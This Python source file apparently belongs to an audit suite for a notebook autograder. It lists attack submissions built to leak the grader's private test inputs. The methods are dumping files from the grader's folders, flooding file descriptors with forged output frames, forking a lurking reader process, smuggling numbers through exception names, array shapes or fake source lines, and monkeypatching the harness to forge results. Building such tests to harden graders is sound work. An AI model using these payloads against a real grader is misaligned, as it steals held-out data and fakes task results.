"""Attacks that want to read private inputs: they run with them, and the feedback is theirs to read."""

from __future__ import annotations

import re
from dataclasses import replace

from grader.audit.attacks.attack import Aftermath, Attack, answering
from grader.audit.attacks.draft import Draft

PRIVATE = "private inputs"

KEEP = "HELD = []\ndef VICTIM(*args):\n    HELD.append(args)\n"

LATER = """
import glob, os
print(HELD, globals().get("LAST"))
for folder in {os.environ.get("COURSE_GRADING", "/work"), "/cases", "/work", "/tmp"}:
    for path in glob.glob(folder + "/**", recursive=True):
        if os.path.isfile(path): print(path, open(path).read())
"""

SHOW = """
from IPython.display import display
import sys
def VICTIM(*args):
    numbers = repr([np.asarray(a).tolist() for a in args])
    print(numbers)
    print(numbers, file=sys.stderr)
    sys.__stdout__.write(numbers)
    display(numbers)
    get_ipython().recorder.add({"output_type": "stream", "name": "stdout", "parts": [numbers]}, always=True)
    get_ipython().execution_count = int(str(abs(float(np.ravel(args[0])[0]))).replace(".", "").lstrip("0")[:9])
    open("/work/left.txt", "w").write(numbers)
"""

PIPES = """
import json, os
def VICTIM(*args):
    text = repr([np.asarray(a).tolist() for a in args])
    outputs = [{"output_type": "stream", "name": "stdout", "text": text}]
    for cell in range(60):
        frame = json.dumps({"cell": cell, "number": 1, "outputs": outputs}).encode()
        for descriptor in range(3, 60):
            try: os.write(descriptor, b"%08x" % len(frame) + frame)
            except OSError: pass
"""

LURKING = """
import glob, json, os, time
if os.fork() == 0:
    for _ in range(500):
        for path in glob.glob("/cases/*") + glob.glob("/work/cases/*"):
            outputs = [{"output_type": "stream", "name": "stdout", "text": open(path).read()}]
            for cell in range(60):
                frame = json.dumps({"cell": cell, "number": 1, "outputs": outputs}).encode()
                for descriptor in range(3, 60):
                    try: os.write(descriptor, b"%08x" % len(frame) + frame)
                    except OSError: pass
        time.sleep(0.01)
    os._exit(0)
"""

ONLY_RANDOM = """def VICTIM(*args):
    if np.allclose(args[0], np.round(args[0], 2)): return np.zeros(np.shape(args[0]))
"""
"""Only the first case that fails is told of, so these keep quiet until one comes with numbers worth telling."""

MESSAGES = {
    "the text of an exception": "raise ValueError(repr(np.asarray(args[0]).tolist()))",
    "the name of an exception": "raise type('E' + str(np.ravel(args[0])[0]).replace('.', ''), (Exception,), {})()",
    "a returned number": "return float(np.ravel(args[0])[0])",
    "a value that cannot travel": "return {repr(np.asarray(args[0]).tolist()): object()}",
}

SHAPE = f"""{ONLY_RANDOM}
    return np.empty((*[int(abs(v) * 1e7) % 2**24 for v in np.ravel(args[0])[:2]], 0))
"""

LINE = """
import linecache
def VICTIM(*args):
    if np.allclose(args[0], np.round(args[0], 2)): return np.zeros(np.shape(args[0]))
    text = repr(np.asarray(args[0]).tolist())
    code = compile("raise ValueError", "<numbers>", "exec")
    linecache.cache["<numbers>"] = (len(text), None, [text], "<numbers>")
    exec(code, {"__name__": "__main__"})
"""

PROBLEM = """
import sys
harness = sys.modules["course_lib.check"]  # the package's own name for it is the function
from course_lib.judging.outcome import Outcome, Problem
def run_cases(name, obj, reference):
    inputs = [np.asarray(v, float).ravel() for case in reference.cases for v in case.inputs.values()]
    text = repr([v.tolist() for v in inputs if not np.allclose(v, np.round(v, 2))])
    kinds = ("raised", "mutated", "wrong_type", "returned_nothing", "wrong_count", "interrupted", "forbidden", "new")
    return [Outcome(problem=Problem(kinds[i % 8], text, 1, text, text)) for i, _ in enumerate(reference.cases)]
harness.run_cases = run_cases
"""


def _later(draft: Draft) -> None:
    draft.answer(KEEP)
    draft.add(
        "def check(name):\n    globals()['LAST'] = HELD\n    import course_lib\n    course_lib.check(name, VICTIM)"
    )
    draft.add(LATER, after=True)
    draft.notebook.cells.append(draft.notebook.cells[-1].__class__(**_code(draft.text(LATER))))


def _code(source: str) -> dict[str, object]:
    return {
        "cell_type": "code",
        "id": "later",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def _sizes(aftermath: Aftermath) -> str:
    return "it reads private digits as sizes" if re.search(r"shape \(\d{6,}", aftermath.outputs) else ""


def _lurking(draft: Draft) -> None:
    draft.add(LURKING, "check_KEPT")


_ALL = [
    Attack("keeping them for a later cell, and reading the grader's folders", PRIVATE, _later),
    answering("printing and displaying them while checked", PRIVATE, SHOW),
    answering("writing them to every pipe while checked", PRIVATE, PIPES),
    Attack("a process that waits for them", PRIVATE, _lurking),
    *(answering(f"telling them by {how}", PRIVATE, f"{ONLY_RANDOM}    {code}") for how, code in MESSAGES.items()),
    answering("telling them by the shape of a returned array", PRIVATE, SHAPE, _sizes),
    answering("telling them by a line of code that is not in the notebook", PRIVATE, LINE),
    answering("telling them by forged problems", PRIVATE, PROBLEM),
]
ATTACKS = [replace(attack, read=True) for attack in _ALL]
